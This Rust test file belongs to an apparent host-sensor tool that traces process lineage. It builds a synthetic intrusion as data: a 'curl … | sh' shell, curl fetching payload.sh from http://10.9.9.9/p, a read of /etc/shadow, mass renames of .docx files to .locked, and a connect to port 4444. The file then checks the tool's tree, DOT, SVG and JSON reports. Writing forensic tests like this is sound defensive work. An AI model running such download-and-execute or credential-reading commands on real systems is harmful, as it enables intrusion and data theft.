//! Tests of the whole trace over synthetic record files, and of each output format.

use std::{collections::HashSet, path::Path};

use prost::Message as _;
use sensor_proto::v1::{
    Ancestor, ExecEvent, ExitEvent, FileEvent, ForkEvent, NetworkEvent, Process, SessionEvent,
};

use super::*;

const T0: i64 = 1_800_000_000;

/// GUIDs: init, sshd, service (started before the sensor: no records of its own), shell,
/// script (connects), cat and mv (children of the script), and an unrelated process.
fn g(name: &str) -> String {
    uuid::Uuid::new_v5(&uuid::Uuid::NAMESPACE_OID, name.as_bytes()).to_string()
}

fn proc(name: &str, pid: u32, parent: &str, exe: &str, argv: &[&str]) -> Process {
    Process {
        guid: g(name),
        pid,
        ppid: pid - 1,
        parent_guid: if parent.is_empty() { String::new() } else { g(parent) },
        exe: exe.into(),
        argv: argv.iter().map(|s| (*s).to_owned()).collect(),
        user: "www-data".into(),
        uid: 33,
        auid: 1000,
        session_id: 7,
        start_time: Some(Timestamp { seconds: T0 + i64::from(pid), nanos: 0 }),
        ..Default::default()
    }
}

fn anc(name: &str, pid: u32, exe: &str) -> Ancestor {
    Ancestor {
        guid: g(name),
        pid,
        exe: exe.into(),
        argv: vec![exe.into()],
        auid: 1000,
        session_id: 7,
        ..Default::default()
    }
}

fn rec(seq: u64, p: Process, ancestors: Vec<Ancestor>, event: Event) -> AuditRecord {
    AuditRecord {
        schema_version: 1,
        seq,
        time: Some(Timestamp { seconds: T0 + 100 + seq as i64, nanos: 0 }),
        process: Some(Box::new(p)),
        ancestors,
        event: Some(event),
        ..Default::default()
    }
}

fn file_ev(op: &str, path: &str, path2: &str, flags: &str, sensitive: bool) -> Event {
    Event::File(FileEvent {
        op: op.into(),
        path: path.into(),
        path2: path2.into(),
        flags: flags.into(),
        sensitive,
        ..Default::default()
    })
}

/// A small intrusion, written to two rotated files in `dir`.
fn write_incident(dir: &Path) {
    let chain = || {
        vec![
            anc("svc", 300, "/usr/bin/python3"),
            anc("sshd", 200, "/usr/sbin/sshd"),
            anc("init", 1, "/sbin/init"),
        ]
    };
    let shell = proc("shell", 400, "svc", "/usr/bin/dash", &["sh", "-c", "curl … | sh"]);
    let script = proc("script", 401, "shell", "/usr/bin/bash", &["bash", "/tmp/p/payload.sh"]);
    let mut script_chain = chain();
    script_chain.insert(0, anc("shell", 400, "/usr/bin/dash"));
    let mut kid_chain = script_chain.clone();
    kid_chain.insert(0, anc("script", 401, "/usr/bin/bash"));
    let cat = proc("cat", 402, "script", "/usr/bin/cat", &["cat", "/etc/shadow"]);
    let mv = proc("mv", 403, "script", "/usr/bin/mv", &["mv"]);
    // Records queued after their process exited carry only ids.
    let bare = |p: &Process| Process {
        guid: p.guid.clone(),
        parent_guid: p.parent_guid.clone(),
        pid: p.pid,
        ..Default::default()
    };
    let other = proc("other", 900, "init", "/usr/bin/cron", &["cron"]);
    let mut a = vec![
        rec(
            1,
            shell.clone(),
            vec![],
            Event::Session(SessionEvent {
                session_id: 7,
                auid: 1000,
                user: "alice".into(),
                service: "sshd".into(),
                remote_address: "10.0.0.5".into(),
                remote_port: 52211,
                leader_guid: g("sshd"),
                existing: true,
                ..Default::default()
            }),
        ),
        rec(2, shell.clone(), chain(), Event::Exec(ExecEvent::default())),
        rec(
            3,
            script.clone(),
            script_chain.clone(),
            Event::Fork(ForkEvent { parent_guid: g("shell"), ..Default::default() }),
        ),
        rec(4, script.clone(), script_chain.clone(), Event::Exec(ExecEvent::default())),
        rec(5, cat.clone(), kid_chain.clone(), Event::Exec(ExecEvent::default())),
        rec(6, cat.clone(), kid_chain.clone(), Event::Exit(ExitEvent::default())),
        rec(7, bare(&cat), vec![], file_ev("open", "/etc/shadow", "", "O_RDONLY", true)),
        rec(
            8,
            other.clone(),
            vec![anc("init", 1, "/sbin/init")],
            file_ev("open", "/var/log/cron", "", "O_WRONLY", false),
        ),
    ];
    let mut b = Vec::new();
    for i in 0..20u64 {
        let p = if i == 0 { mv.clone() } else { bare(&mv) };
        let from = format!("/srv/docs/d{}/f{i}.docx", i % 2);
        b.push(rec(
            10 + i,
            p,
            kid_chain.clone(),
            file_ev("rename", &from, &format!("{from}.locked"), "", false),
        ));
    }
    // One `rm` per file: four sibling processes that fold into one node.
    for pid in 404..408u32 {
        let rm = proc(&format!("rm{pid}"), pid, "script", "/usr/bin/rm", &["rm", "-f"]);
        b.push(rec(30 + u64::from(pid), rm.clone(), kid_chain.clone(), Event::Exec(ExecEvent::default())));
        b.push(rec(
            30 + u64::from(pid),
            bare(&rm),
            vec![],
            file_ev("unlink", &format!("/srv/docs/f{pid}.docx"), "", "", false),
        ));
    }
    // The downloader beside the script: not in the view, but something the shell started.
    let curl = proc(
        "curl",
        399,
        "shell",
        "/usr/bin/curl",
        &["curl", "-o", "/tmp/p/payload.sh", "http://10.9.9.9/p"],
    );
    b.push(rec(39, curl, script_chain.clone(), Event::Exec(ExecEvent::default())));
    b.push(rec(
        40,
        bare(&script),
        vec![],
        Event::Network(NetworkEvent {
            op: "connect".into(),
            protocol: "tcp".into(),
            family: "ipv4".into(),
            remote_address: "127.0.0.1".into(),
            remote_port: 4444,
            ..Default::default()
        }),
    ));
    a.push(rec(
        9,
        other,
        vec![],
        Event::Network(NetworkEvent {
            op: "connect".into(),
            remote_address: "127.0.0.1".into(),
            remote_port: 5555,
            ..Default::default()
        }),
    ));
    for (name, recs) in [("audit-0000000000001-000000.pb", a), ("audit-0000000000002-000001.pb", b)] {
        let mut buf = Vec::new();
        for r in recs {
            r.encode_length_delimited(&mut buf).expect("encode");
        }
        std::fs::write(dir.join(name), buf).expect("write");
    }
}

fn run(target: Target) -> Incident {
    let dir = tempfile::tempdir().expect("tempdir");
    write_incident(dir.path());
    trace(&[dir.path().to_owned()], &Query { target, since: None, until: None }).expect("trace")
}

fn connect() -> Target {
    Target::parse_connect("127.0.0.1:4444").expect("parse")
}

fn render_to_string(inc: &Incident, f: Format) -> String {
    let mut v = Vec::new();
    render(inc, f, &mut v).expect("render");
    String::from_utf8(v).expect("utf8")
}

#[test]
fn connect_finds_the_chain_root_first_and_the_descendants() {
    let inc = run(connect());
    assert_eq!(inc.matched_records, 1);
    let pids: Vec<u32> = inc.nodes.iter().map(|n| n.pid).collect();
    assert_eq!(pids, vec![1, 200, 300, 400, 401, 402, 403, 404], "root cause first, unrelated cron left out");
    let roles: Vec<Role> = inc.nodes.iter().map(|n| n.role).collect();
    assert_eq!(roles[..4], [Role::Ancestor; 4]);
    assert_eq!(roles[4], Role::Acting);
    assert_eq!(roles[5..], [Role::Descendant; 3]);
    // The service has no records of its own: it is known from the others' ancestry.
    let svc = &inc.nodes[2];
    assert!(svc.from_ancestry);
    assert_eq!(svc.exe, "/usr/bin/python3");
    // Details of cat come from its exec record although its file record carries only ids.
    let cat = &inc.nodes[5];
    assert_eq!(cat.exe, "/usr/bin/cat");
    assert_eq!(cat.activity.groups()[0].text(), "read sensitive /etc/shadow");
    let mv = &inc.nodes[6];
    assert_eq!(mv.activity.groups()[0].text(), "renamed 20 files *.docx → *.locked under /srv/docs");
    // Four `rm` siblings are one node.
    let rm = &inc.nodes[7];
    assert_eq!((rm.folded, rm.folded_pids.as_slice()), (3, &[405, 406, 407][..]));
    assert_eq!(rm.pid_label(), "4 processes (pids 404, 405, 406, 407)");
    assert_eq!(rm.activity.groups()[0].text(), "deleted 4 files *.docx under /srv/docs");
    // The shell's other child (the downloader) is listed under the shell.
    let shell = inc.nodes[3].activity.groups().iter().map(|g| g.text()).collect::<Vec<_>>();
    assert_eq!(shell, vec!["started /usr/bin/curl (curl -o /tmp/p/payload.sh http://10.9.9.9/p)"]);
    assert_eq!(inc.edges.len(), 7);
    assert_eq!(inc.sessions.len(), 1);
    assert_eq!(inc.sessions[0].leader, Some(1));
}

#[test]
fn pid_guid_file_and_session_queries() {
    let by_pid = run(Target::Pid(300));
    assert_eq!(by_pid.acting().map(|i| by_pid.nodes[i].pid).collect::<Vec<_>>(), vec![300]);
    assert!(by_pid.nodes.iter().any(|n| n.pid == 403), "descendants of the service");
    let by_guid = run(Target::Guid(g("cat")));
    assert_eq!(by_guid.acting().map(|i| by_guid.nodes[i].pid).collect::<Vec<_>>(), vec![402]);
    let by_file = run(Target::File("/srv/docs/d0".into()));
    assert_eq!(by_file.acting().map(|i| by_file.nodes[i].pid).collect::<Vec<_>>(), vec![403]);
    assert_eq!(by_file.matched_records, 10);
    let by_session = run(Target::Session(7));
    assert!(by_session.acting().count() >= 4);
    let none = run(Target::Pid(12345));
    assert!(none.nodes.is_empty());
    assert!(render_to_string(&none, Format::Tree).starts_with("no record matches --pid 12345"));
}

#[test]
fn pid_reuse_and_sensor_restarts_are_told_apart_by_guid() {
    let dir = tempfile::tempdir().expect("tempdir");
    let run1 = AuditRecord {
        host: Some(sensor_proto::v1::Host { instance_id: "run-1".into(), ..Default::default() }),
        ..rec(
            1,
            proc("old", 500, "init", "/usr/bin/sleep", &["sleep"]),
            vec![],
            Event::Exec(ExecEvent::default()),
        )
    };
    // The same process seen again by a restarted sensor, then a new process with its pid.
    let run2 = |r: AuditRecord| AuditRecord {
        host: Some(sensor_proto::v1::Host { instance_id: "run-2".into(), ..Default::default() }),
        ..r
    };
    let again = run2(rec(
        2,
        proc("old", 500, "init", "/usr/bin/sleep", &["sleep"]),
        vec![],
        Event::Exit(ExitEvent::default()),
    ));
    let reused = run2(rec(
        3,
        Process {
            start_time: Some(Timestamp { seconds: T0 + 9000, nanos: 0 }),
            ..proc("new", 500, "init", "/usr/bin/nc", &["nc"])
        },
        vec![],
        Event::Exec(ExecEvent::default()),
    ));
    for (name, recs) in [("audit-1-000000.pb", vec![run1]), ("audit-2-000000.pb", vec![again, reused])] {
        let mut buf = Vec::new();
        for r in recs {
            r.encode_length_delimited(&mut buf).expect("encode");
        }
        std::fs::write(dir.path().join(name), buf).expect("write");
    }
    let q = Query { target: Target::Pid(500), since: None, until: None };
    let inc = trace(&[dir.path().to_owned()], &q).expect("trace");
    let acting: Vec<(&str, u64, bool)> = inc
        .acting()
        .map(|i| (inc.nodes[i].exe.as_str(), inc.nodes[i].records, inc.nodes[i].exit.is_some()))
        .collect();
    assert_eq!(acting, vec![("/usr/bin/sleep", 2, true), ("/usr/bin/nc", 1, false)]);
}

#[test]
fn a_torn_file_is_read_up_to_the_damage_and_reported() {
    let dir = tempfile::tempdir().expect("tempdir");
    write_incident(dir.path());
    // Cut the second file inside its last record (the connect): everything before it counts.
    let second = dir.path().join("audit-0000000000002-000001.pb");
    let bytes = std::fs::read(&second).expect("read");
    std::fs::write(&second, &bytes[..bytes.len() - 3]).expect("write");
    let q = Query { target: Target::File("/etc/shadow".into()), since: None, until: None };
    let inc = trace(&[dir.path().to_owned()], &q).expect("trace");
    assert_eq!(inc.stats.damaged.len(), 1, "{:?}", inc.stats.damaged);
    assert!(inc.stats.damaged[0].contains("audit-0000000000002-000001.pb"));
    assert_eq!(inc.acting().map(|i| inc.nodes[i].pid).collect::<Vec<_>>(), vec![402]);
    assert!(render_to_string(&inc, Format::Tree).contains("warning: damaged file"));
    let gone = Query { target: connect(), since: None, until: None };
    assert!(trace(&[dir.path().to_owned()], &gone).expect("trace").nodes.is_empty());
}

#[test]
fn time_window_limits_the_records() {
    let dir = tempfile::tempdir().expect("tempdir");
    write_incident(dir.path());
    let at = |s: i64| SystemTime::UNIX_EPOCH + Duration::from_secs(s as u64);
    let q = Query { target: connect(), since: Some(at(T0 + 100 + 41)), until: None };
    assert!(trace(&[dir.path().to_owned()], &q).expect("trace").nodes.is_empty());
    let q = Query { target: connect(), since: Some(at(T0)), until: Some(at(T0 + 100 + 40)) };
    assert_eq!(trace(&[dir.path().to_owned()], &q).expect("trace").matched_records, 1);
    // A window holding only the connect: lineage and process details still come from the
    // records before it, activity only from the window.
    let q = Query { target: connect(), since: Some(at(T0 + 100 + 40)), until: Some(at(T0 + 100 + 40)) };
    let inc = trace(&[dir.path().to_owned()], &q).expect("trace");
    assert_eq!(inc.stats.in_window, 1);
    let shell = inc.nodes.iter().find(|n| n.pid == 400).expect("shell");
    assert_eq!((shell.exe.as_str(), shell.activity.is_empty()), ("/usr/bin/dash", true));
    let cat = inc.nodes.iter().find(|n| n.pid == 402).expect("cat");
    assert!(cat.activity.is_empty(), "the shadow read is before the window");
}

#[test]
fn tree_names_the_chain_and_what_it_did() {
    let t = render_to_string(&run(connect()), Format::Tree);
    for want in [
        "session 7: alice (auid 1000) via sshd from 10.0.0.5:52211",
        "pid 300",
        "seen only as an ancestor",
        "▶ ",
        "bash /tmp/p/payload.sh",
        "read sensitive /etc/shadow",
        "renamed 20 files *.docx → *.locked under /srv/docs",
        "connected tcp to 127.0.0.1:4444   ◀ match",
        "4 processes (pids 404, 405, 406, 407)",
        "started /usr/bin/curl",
    ] {
        assert!(t.contains(want), "missing {want:?} in\n{t}");
    }
    assert!(!t.contains("cron"), "{t}");
}

/// A minimal DOT check: balanced braces, a digraph, every edge between declared nodes.
pub(crate) fn check_dot(dot: &str) -> (HashSet<String>, Vec<(String, String)>) {
    assert!(dot.starts_with("digraph "), "{dot}");
    let mut depth = 0i32;
    let mut in_str = false;
    let mut prev = ' ';
    for c in dot.chars() {
        match c {
            '"' if prev != '\\' => in_str = !in_str,
            '{' if !in_str => depth += 1,
            '}' if !in_str => depth -= 1,
            _ => {}
        }
        assert!(depth >= 0);
        prev = if prev == '\\' && c == '\\' { ' ' } else { c };
    }
    assert_eq!(depth, 0, "balanced braces");
    assert!(!in_str, "closed strings");
    let mut nodes = HashSet::new();
    let mut edges = Vec::new();
    for line in dot.lines().map(str::trim) {
        let Some(rest) = line.strip_prefix('"') else { continue };
        let Some((a, rest)) = rest.split_once('"') else { continue };
        if let Some(rest) = rest.trim_start().strip_prefix("-> \"") {
            let (b, _) = rest.split_once('"').expect("edge target");
            edges.push((a.to_owned(), b.to_owned()));
        } else {
            nodes.insert(a.to_owned());
        }
    }
    for (a, b) in &edges {
        assert!(nodes.contains(a) && nodes.contains(b), "edge {a} -> {b} between declared nodes");
    }
    (nodes, edges)
}

#[test]
fn dot_is_a_digraph_with_the_chain_edges() {
    let inc = run(connect());
    let dot = render_to_string(&inc, Format::Dot);
    let (nodes, edges) = check_dot(&dot);
    assert_eq!(nodes.len(), inc.nodes.len() + inc.sessions.len());
    let id = |pid: u32| nodes.iter().find(|n| n.starts_with(&format!("p{pid}_"))).expect("node").clone();
    for (p, c) in [(300, 400), (400, 401), (401, 402), (401, 403)] {
        assert!(edges.contains(&(id(p), id(c))), "edge {p} -> {c} in\n{dot}");
    }
    assert!(edges.contains(&("s7".to_owned(), id(200))));
}

#[test]
fn svg_is_well_formed_and_shows_every_process() {
    let inc = run(connect());
    let svg = render_to_string(&inc, Format::Svg);
    let doc = roxmltree::Document::parse(&svg).expect("well-formed XML");
    let root = doc.root_element();
    assert_eq!(root.tag_name().name(), "svg");
    let boxes = root.descendants().filter(|n| n.has_tag_name("g")).count();
    assert_eq!(boxes, inc.nodes.len());
    let paths =
        root.descendants().filter(|n| n.has_tag_name("path") && n.attribute("marker-end").is_some()).count();
    assert_eq!(paths, inc.edges.len());
    let text: String = root.descendants().filter_map(|n| n.text()).collect();
    assert!(text.contains("/etc/shadow") && text.contains("payload.sh"));
    // Boxes of one layer do not overlap.
    let rects: Vec<(f64, f64, f64)> = root
        .descendants()
        .filter(|n| n.has_tag_name("rect") && n.attribute("rx").is_some())
        .map(|n| {
            let f = |a| n.attribute(a).and_then(|v| v.parse::<f64>().ok()).expect("number");
            (f("x"), f("y"), f("width"))
        })
        .collect();
    for (i, a) in rects.iter().enumerate() {
        for b in &rects[i + 1..] {
            if (a.1 - b.1).abs() < 0.01 {
                assert!(a.0 + a.2 <= b.0 || b.0 + b.2 <= a.0, "overlap {a:?} {b:?}");
            }
        }
    }
    // Text that needs escaping stays well-formed.
    let mut inc = run(connect());
    inc.nodes[0].argv = vec!["<&\"'>\u{1}".into()];
    roxmltree::Document::parse(&render_to_string(&inc, Format::Svg)).expect("escaped");
    check_dot(&render_to_string(&inc, Format::Dot));
}

#[test]
fn json_names_processes_edges_and_activity() {
    let inc = run(connect());
    let v: serde_json::Value = serde_json::from_str(&render_to_string(&inc, Format::Json)).expect("json");
    assert_eq!(v["query"], "--connect 127.0.0.1:4444");
    assert_eq!(v["acting"][0], g("script"));
    let procs = v["processes"].as_array().expect("processes");
    assert_eq!(procs.len(), 8);
    assert_eq!(procs[7]["folded_processes"], 3);
    assert_eq!(procs[4]["role"], "acting");
    assert_eq!(procs[4]["parent_guid"], g("shell"));
    assert_eq!(procs[4]["activity"][0]["matched"], true);
    assert_eq!(procs[6]["activity"][0]["kind"], "rename");
    assert_eq!(procs[6]["activity"][0]["count"], 20);
    assert_eq!(v["edges"].as_array().expect("edges").len(), 7);
    assert_eq!(v["sessions"][0]["remote_address"], "10.0.0.5");
}

#[test]
fn connect_and_time_arguments_parse() {
    let ip = |s: &str| ConnectHost::Ip(s.parse().expect("ip"));
    assert_eq!(connect(), Target::Connect { host: ip("127.0.0.1"), port: Some(4444) });
    assert_eq!(Target::parse_connect("::1"), Ok(Target::Connect { host: ip("::1"), port: None }));
    assert_eq!(Target::parse_connect("[::1]:80"), Ok(Target::Connect { host: ip("::1"), port: Some(80) }));
    assert_eq!(
        Target::parse_connect("Evil.Example.:53"),
        Ok(Target::Connect { host: ConnectHost::Name("evil.example".into()), port: Some(53) })
    );
    assert!(Target::parse_connect("x:notaport").is_err());
    assert_eq!(Target::parse_connect("[::1]:80").expect("p").describe(), "--connect [::1]:80");

    let now = SystemTime::UNIX_EPOCH + Duration::from_secs(T0 as u64);
    assert_eq!(parse_time("-1h", now), Ok(now - Duration::from_secs(3600)));
    assert_eq!(parse_time("90m ago", now), Ok(now - Duration::from_secs(5400)));
    let abs = SystemTime::UNIX_EPOCH + Duration::from_secs(1_795_420_800);
    assert_eq!(parse_time("2026-11-23T08:00:00Z", now), Ok(abs));
    assert_eq!(parse_time("2026-11-23T08:00:00+00:00", now), Ok(abs));
    assert!(parse_time("yesterday", now).is_err());
}

/// Found by fuzzing (trace_input): a record time beyond year 9999 made `sensor trace` panic
/// while formatting it.
#[test]
fn times_that_rfc3339_cannot_show_are_unknown_not_a_panic() {
    let far = Timestamp { seconds: 300_000_000_000, nanos: 0 };
    assert_eq!(super::time(Some(&far)), None);
    assert_eq!(super::time(Some(&Timestamp { seconds: 1, nanos: 1_000_000_000 })), None);
    let beyond = std::time::UNIX_EPOCH + std::time::Duration::from_secs(300_000_000_000);
    assert_eq!(super::fmt_time(Some(beyond)), "?");
    assert_eq!(super::fmt_time(None), "?");
    let ok = super::time(Some(&Timestamp { seconds: 1_795_432_000, nanos: 5_000_000 }));
    assert_eq!(super::fmt_time(ok), "2026-11-23T11:06:40.005Z");
}
